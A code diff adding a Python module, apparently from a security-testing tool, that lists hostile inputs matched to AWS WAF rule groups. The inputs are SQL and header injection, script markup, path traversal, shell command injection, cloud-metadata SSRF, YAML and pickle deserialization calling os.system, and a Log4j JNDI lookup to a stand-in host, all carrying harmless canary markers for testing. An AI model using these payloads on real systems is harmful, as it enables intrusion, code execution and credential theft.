@@ -1,0 +1,65 @@
+"""What attackers send: one text for each class that AWS WAF's managed rule groups know, each with a mark that is told again.
+
+https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-list.html
+"""
+
+from dataclasses import dataclass
+
+from lambdatest.model import Vocabulary
+from lambdatest.results import QUOTED
+
+CORE = "core rule set"
+BAD_INPUTS = "known bad inputs rule group"
+SQL = "SQL database rule group"
+POSIX = "POSIX operating system rule group"
+
+MARKUP = "<script>lt7f3</script>"
+INJECTED_LINE = "X-Injected: lt7f3"
+INJECTED_HEADER = f"evil\r\n{INJECTED_LINE}"
+QUOTE = f"{QUOTED}' OR '1'='1"
+CANARY_HOST = "canary-host.example"
+METADATA = "169.254.169.254"
+
+
+@dataclass(frozen=True, slots=True)
+class Payload:
+    """A hostile *text*; *sinks* are what a code must do with text for it to matter, *group* the rule group that stops it, if any does.
+
+    One with *only* is sent to such code alone; the others to all, and first to such code.
+    """
+
+    text: str
+    sinks: frozenset[str] = frozenset()
+    group: str | None = None
+    only: bool = False
+
+
+def _payload(text: str, *sinks: str, group: str | None = None, only: bool = False) -> Payload:
+    return Payload(text, frozenset(sinks), group, only)
+
+
+PAYLOADS = (
+    _payload(QUOTE, "sql", "expression", group=SQL),
+    _payload(INJECTED_HEADER, "header"),
+    _payload(MARKUP, "markup", group=CORE),
+    _payload("../../../etc/lt7f3", "file", group=CORE),
+    _payload("canary; echo $HOME", "command", group=POSIX),
+    _payload("$(canary;id)", "command"),
+    _payload(f"https://{CANARY_HOST}/", "network", "header"),
+    _payload("%00"),
+    _payload("null"),
+    _payload(f"http://{METADATA}/latest/meta-data/", "network", group=CORE, only=True),
+    _payload("../" * 12 + "proc/self/environ", "file", group=CORE, only=True),
+    _payload("!!python/object/apply:os.system ['canary']", "yaml", only=True),
+    _payload("Y29zCnN5c3RlbQooUydjYW5hcnknCnRSLg==", "pickle", only=True),  # cos\nsystem\n(S'canary'\ntR.
+    _payload(f"${{jndi:ldap://{CANARY_HOST}/a}}", "template", group=BAD_INPUTS, only=True),
+)
+PLAIN = tuple(payload.text for payload in PAYLOADS if not payload.only)
+"""What is sent to any code."""
+
+
+def texts(vocabulary: Vocabulary) -> tuple[str, ...]:
+    """The hostile texts for a code, those first that can do harm in it."""
+    explosive = tuple(dict.fromkeys(text for _, text in vocabulary.explosive))
+    harmful = [payload.text for payload in PAYLOADS if payload.sinks & vocabulary.sinks]
+    return tuple(dict.fromkeys((*explosive, *harmful, *PLAIN)))
